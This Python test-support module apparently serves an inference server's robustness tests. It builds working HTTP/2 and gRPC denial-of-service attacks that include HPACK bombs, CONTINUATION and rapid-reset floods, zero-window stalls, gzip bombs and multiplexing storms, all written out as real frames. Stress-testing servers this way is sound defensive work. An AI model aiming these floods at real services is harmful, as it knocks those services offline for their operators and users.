"""Attacks by HTTP/2 and gRPC: frames that keep to the letter, and ones that do not."""

import gzip
import struct
from collections.abc import Callable

from tests.support.attackers import Attack, Part, Wire, frame
from tests.support.attacks_http1 import MIB

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 2, 3, 4, 6, 8, 9,
)  # fmt: skip
PRIORITY_UPDATE, UNKNOWN = 16, 99
END_STREAM, END_HEADERS = 1, 4
ACK = 1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CALL = b"/inference.GRPCInferenceService/ModelInfer"


def number(prefix: int, bits: int, value: int) -> bytes:
    """Return an integer as HPACK has it (RFC 7541, 5.1)."""
    most = (1 << bits) - 1
    if value < most:
        return bytes((prefix | value,))
    out, value = bytearray((prefix | most,)), value - most
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes((*out, value))


def field(name: bytes, value: bytes, indexed: bool = False) -> bytes:
    """Return a header as a literal (RFC 7541, 6.2), kept in the table if `indexed`."""
    return (
        (b"\x40" if indexed else b"\0")
        + number(0, 7, len(name))
        + name
        + number(0, 7, len(value))
        + value
    )


def block(*headers: tuple[bytes, bytes]) -> bytes:
    """Return a header block."""
    return b"".join(field(name, value) for name, value in headers)


GET = block((b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/v2"), (b":authority", b"a"))
METADATA = block(
    (b":method", b"GET"),
    (b":scheme", b"http"),
    (b":path", b"/v2/models/iris-onnx"),
    (b":authority", b"a"),
)
POST = block(
    (b":method", b"POST"),
    (b":scheme", b"http"),
    (b":path", b"/v2/models/iris-onnx/infer"),
    (b":authority", b"a"),
)
RPC = block(
    (b":method", b"POST"),
    (b":scheme", b"http"),
    (b":path", CALL),
    (b":authority", b"a"),
    (b"content-type", b"application/grpc"),
    (b"te", b"trailers"),
)
TALK = RPC.replace(field(b":path", CALL), field(b":path", CALL.replace(b"Infer", b"StreamInfer")))
READY = RPC.replace(field(b":path", CALL), field(b":path", CALL.replace(b"Infer", b"Ready")))
RPC_GZIP = RPC + field(b"grpc-encoding", b"gzip")

IRIS = bytes.fromhex(
    "0a09697269732d6f6e6e78"  # model_name "iris-onnx"
    "2a130a0770726564696374120446503332"
    "1a020104"  # inputs: "predict", "FP32", [1, 4]
    "3a100000803f000000400000404000008040"  # raw_input_contents
)
IRIS_NAME = IRIS[:11]


def varint(value: int) -> bytes:
    """Return a number as protobuf has it."""
    out = bytearray()
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes((*out, value))


def typed(size: int) -> bytes:
    """Return a request with so many numbers, of a byte each, as typed contents."""
    numbers = b"\x1a" + varint(size) + b"\x07" * size  # int64_contents
    shape = varint(size)
    tensor = bytes.fromhex("0a07707265646963741205494e543634") + b"\x1a" + bytes((len(shape),))
    tensor += shape + b"\x2a" + varint(len(numbers)) + numbers
    return bytes.fromhex("0a09697269732d6f6e6e78") + b"\x2a" + varint(len(tensor)) + tensor


def message(body: bytes, flag: int = 0) -> bytes:
    """Return a message as gRPC frames it."""
    return bytes((flag,)) + struct.pack(">I", len(body)) + body


def open_http2(wire: Wire, settings: bytes = b"") -> None:
    """Say what an HTTP/2 client says first."""
    wire.send(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, ACK, 0))


def setting(identifier: int, value: int) -> bytes:
    """Return one entry of a SETTINGS frame."""
    return struct.pack(">HI", identifier, value)


def repeated(data: bytes, first: bytes = b"") -> Callable[[Attack], None]:
    """Return the attack that sends `first` and then `data` again and again."""
    chunk = data * max(1, 65536 // len(data))

    def once(attack: Attack, wire: Wire) -> None:
        open_http2(wire)
        wire.send(first)
        while True:
            wire.send(chunk)

    return lambda attack: attack.again(once)


def by_stream(piece: Callable[[int], bytes], reads: bool = True) -> Callable[[Attack], None]:
    """Return the attack that sends `piece(stream)` for one stream after the other."""

    def once(attack: Attack, wire: Wire) -> None:
        open_http2(wire)
        for first in range(1, 1 << 20, 400):
            wire.send(b"".join(map(piece, range(first, first + 400, 2))), reads)

    return lambda attack: attack.again(once)


def open_post(stream: int, head: bytes = POST, flags: int = END_HEADERS) -> bytes:
    """Return the beginning of a request with a body."""
    return frame(HEADERS, flags, stream, head)


def reset(stream: int) -> bytes:
    """Return a RST_STREAM(CANCEL)."""
    return frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def window(stream: int, increment: int) -> bytes:
    """Return a WINDOW_UPDATE."""
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", increment))


def call(stream: int, data: bytes, head: bytes = RPC, flags: int = END_STREAM) -> bytes:
    """Return a whole gRPC call whose body is `data`."""
    pieces = [data[at : at + 16384] for at in range(0, len(data), 16384)] or [b""]
    frames = [frame(DATA, 0, stream, piece) for piece in pieces[:-1]]
    return open_post(stream, head) + b"".join(frames) + frame(DATA, flags, stream, pieces[-1])


def hpack_bomb(attack: Attack) -> None:
    """A header kept in the table, then named ten thousand times."""
    kept = field(b"a", b"b" * 3900, indexed=True)

    def once(attack: Attack, wire: Wire) -> None:
        open_http2(wire)
        for stream in range(1, 1000, 2):
            named = GET + kept + b"\xbe" * (10 if attack.random.random() < 0.5 else 12_000)
            wire.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, named))

    attack.again(once)


def _held(names: int) -> Callable[[Attack], None]:
    """Keep 250 requests open a connection, whose heads name a header of 4 KB `names` times each."""
    kept = field(b"a", b"b" * 3900, indexed=True)

    def once(attack: Attack, wire: Wire) -> None:
        open_http2(wire)
        wire.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, GET + kept))
        heads = (POST + b"\xbe" * names + field(b"n", b"%d" % n) for n in range(250))
        wire.send(b"".join(open_post(3 + 2 * n, head) for n, head in enumerate(heads)))
        wire.wait(0.1)

    return lambda attack: attack.again(once)


def continuations(attack: Attack) -> None:
    """A header block that never ends, of empty or of full frames."""

    def once(attack: Attack, wire: Wire) -> None:
        open_http2(wire)
        wire.send(frame(HEADERS, END_STREAM, 1, GET))
        more = field(b"x", b"y" * 200) * 80 if attack.random.random() < 0.5 else b""
        while True:
            wire.send(frame(CONTINUATION, 0, 1, more) * 10)

    attack.again(once)


def many_fields(attack: Attack) -> None:
    """Requests of a thousand headers."""

    def once(attack: Attack, wire: Wire) -> None:
        open_http2(wire)
        few = attack.random.random() < 0.5
        fields = b"".join(field(b"x%d" % n, b"y") for n in range(200 if few else 1000))
        for stream in range(1, 2000, 2):
            wire.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, GET + fields))

    attack.again(once)


def _slow_windows(first: bytes, more: bytes) -> Callable[[Attack], None]:
    """Ask for everything that the streams allow, with room for no byte or few of the answers."""

    def once(attack: Attack, wire: Wire) -> None:
        open_http2(wire, first)
        for stream in range(1, 512, 2):
            wire.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, METADATA))
        while True:
            wire.send(more or frame(PING, 0, 0, bytes(8)))
            wire.wait(0.01)

    return lambda attack: attack.again(once)


tiny_windows = _slow_windows(
    setting(4, 1), b"".join(window(stream, 1) for stream in range(1, 512, 2))
)
zero_window = _slow_windows(setting(4, 0), b"")


def window_errors(attack: Attack) -> None:
    """Windows that overflow, and updates of nothing."""
    most = (1 << 31) - 1
    forms = (
        window(0, most),
        window(1, most),
        window(0, 0),
        window(1, 0),
        frame(SETTINGS, 0, 0, setting(4, 1 << 31)),
        window(1, most - 65535) + frame(SETTINGS, 0, 0, setting(4, most)),
    )

    def once(attack: Attack, wire: Wire) -> None:
        open_http2(wire)
        wire.send(open_post(1) + attack.random.choice(forms))
        wire.wait(0.1)

    attack.again(once)


def rpc_faults(attack: Attack) -> None:
    """Calls whose messages are cut off, doubled, marked wrongly, not compressed, or no message."""
    whole = message(IRIS)
    forms = (
        whole[:3],
        whole[:-1],
        whole + whole,
        whole + b"\0",
        message(IRIS, 1),
        message(IRIS, 2),
        message(IRIS, 255),
        b"\0\xff\xff\xff\xff",
        message(b"\xff" * 20),
        message(attack.random.randbytes(3000)),
        b"",
    )

    def once(attack: Attack, wire: Wire) -> None:
        open_http2(wire)
        for stream in range(1, 400, 2):
            head = attack.random.choice((RPC, RPC_GZIP))
            wire.send(call(stream, attack.random.choice(forms), head))
        wire.wait(0.05)

    attack.again(once)


def interleaved(attack: Attack) -> None:
    """Forty calls on one connection, their messages cut into pieces that take turns."""

    def once(attack: Attack, wire: Wire) -> None:
        open_http2(wire)
        whole = message(IRIS)
        for first in range(1, 8000, 80):
            streams = range(first, first + 80, 2)
            wire.send(b"".join(open_post(stream, RPC) for stream in streams))
            for at in range(0, len(whole), 7):
                flags = END_STREAM if at + 7 >= len(whole) else 0
                wire.send(
                    b"".join(frame(DATA, flags, each, whole[at : at + 7]) for each in streams)
                )
            wire.wait(0.005)

    attack.again(once)


def rpc_gzip_bomb(attack: Attack) -> None:
    """Messages that are a thousand times larger than they seem."""
    bomb = message(gzip.compress(bytes(60 * MIB), 9), 1)

    def once(attack: Attack, wire: Wire) -> None:
        open_http2(wire)
        for stream in range(1, 41, 2):
            wire.send(call(stream, bomb, RPC_GZIP))
        wire.wait(0.05)

    attack.again(once)


def typed_contents(attack: Attack) -> None:
    """Large tensors as typed contents, each number of which is an object on the way."""
    large = message(typed(6 * MIB))  # more, beyond the 4 MiB that one stream may send uncredited

    def once(attack: Attack, wire: Wire) -> None:
        open_http2(wire)
        head, body = call(1, large)[: 4 * MIB - 4096], call(1, large)[4 * MIB - 4096 :]
        wire.send(head)
        wire.wait(0.05)  # the credit has come, and with it the answer if there is one already
        wire.send(body)
        wire.until(b"grpc-status")

    attack.again(once)


def promised_messages(attack: Attack) -> None:
    """Calls that announce the largest messages there may be, and send nothing of them."""
    promise = b"\0" + struct.pack(">I", 1000 * MIB)

    def once(attack: Attack, wire: Wire) -> None:
        open_http2(wire)
        for stream in range(1, 41, 2):
            wire.send(call(stream, promise, flags=0))
        while True:
            wire.send(frame(PING, 0, 0, bytes(8)))
            wire.wait(0.1)

    attack.again(once)


class Calls(Part):
    """One connection with as many calls under way as it is allowed, and a new one for each ended.

    Its windows are as large as can be, so that nothing but the server holds the answers back.
    """

    _MOST = 256

    def __init__(self, attack: Attack, head: bytes, body: bytes) -> None:
        super().__init__(b"")
        self._attack = attack
        self._head = head
        self._message = message(body)
        self._first = PREFACE + frame(SETTINGS, 0, 0, setting(4, (1 << 31) - 1))
        self._first += frame(SETTINGS, ACK, 0) + window(0, (1 << 31) - 1 - 65535)
        self._next = 1
        self._open = 0
        self._unread = b""

    def say(self) -> bytes:
        """Return calls for all streams that are free."""
        first, self._first = self._first, b""
        begin, free = self._next, self._MOST - self._open
        self._open, self._next = self._MOST, begin + 2 * free
        return first + b"".join(
            call(stream, self._message, self._head) for stream in range(begin, self._next, 2)
        )

    def hear(self, data: bytes) -> None:
        """Count the streams that have ended."""
        data, at = self._unread + data, 0
        while len(data) - at >= 9:
            end = at + 9 + int.from_bytes(data[at : at + 3], "big")
            if end > len(data):
                break
            if data[at + 3] == HEADERS and data[at + 4] & END_STREAM:
                self._open -= 1
                self._attack.heard["answers"] += 1
            at = end
        self._unread = data[at:]


def multiplexing(attack: Attack) -> None:
    """As many calls as fit through one connection."""
    attack.storm(1, lambda: Calls(attack, RPC, IRIS))


def multiplexing_crowd(attack: Attack) -> None:
    """As many calls as fit through each of five hundred connections.

    They ask whether a model is ready: more than it may have waiting would be refused, the lone
    client's among them.
    """
    attack.storm(500, lambda: Calls(attack, READY, IRIS_NAME))


def half_closed_http2(attack: Attack) -> None:
    """Connections whose side is closed before, within and after a call."""

    def once(attack: Attack, wire: Wire) -> None:
        data = PREFACE + frame(SETTINGS, 0, 0) + call(1, message(IRIS))
        wire.send(data[: attack.random.randrange(len(data) + 1)])
        wire.end()
        wire.wait(0.05)

    attack.again(once)


ATTACKS: dict[str, Callable[[Attack], None]] = {
    "hpack_bomb": hpack_bomb,
    "held_heads": _held(15),
    "refused_heads": _held(30),
    "idle_conversations": by_stream(lambda stream: open_post(stream, TALK)),
    "continuations": continuations,
    "many_fields": many_fields,
    "streams": by_stream(open_post),
    "rapid_resets": by_stream(
        lambda stream: open_post(stream, GET, END_HEADERS | END_STREAM) + reset(stream)
    ),
    "rapid_rpc_resets": by_stream(lambda stream: call(stream, message(IRIS)) + reset(stream)),
    "provoked_resets": by_stream(lambda stream: open_post(stream) + open_post(stream)),
    "settings": repeated(frame(SETTINGS, 0, 0, setting(4, 65535))),
    "empty_settings": repeated(frame(SETTINGS, 0, 0)),
    "pings": repeated(frame(PING, 0, 0, b"12345678")),
    "priorities": repeated(frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 1))),
    "priority_updates": repeated(frame(PRIORITY_UPDATE, 0, 0, struct.pack(">I", 1) + b"u=1")),
    "unknown_frames": repeated(frame(UNKNOWN, 0, 0, b"?")),
    "empty_data": repeated(frame(DATA, 0, 1), open_post(1)),
    "empty_rpc_data": repeated(frame(DATA, 0, 1), open_post(1, RPC)),
    "padding": repeated(frame(DATA, 8, 1, bytes((3, 0, 0, 0))), open_post(1)),
    "window_updates": repeated(window(0, 1)),
    "stream_window_updates": repeated(window(1, 1), open_post(1)),
    "tiny_windows": tiny_windows,
    "zero_window": zero_window,
    "window_errors": window_errors,
    "unread_answers": by_stream(
        lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, METADATA), reads=False
    ),
    "rpc_faults": rpc_faults,
    "interleaved": interleaved,
    "rpc_gzip_bomb": rpc_gzip_bomb,
    "typed_contents": typed_contents,
    "promised_messages": promised_messages,
    "multiplexing": multiplexing,
    "multiplexing_crowd": multiplexing_crowd,
    "half_closed_http2": half_closed_http2,
}
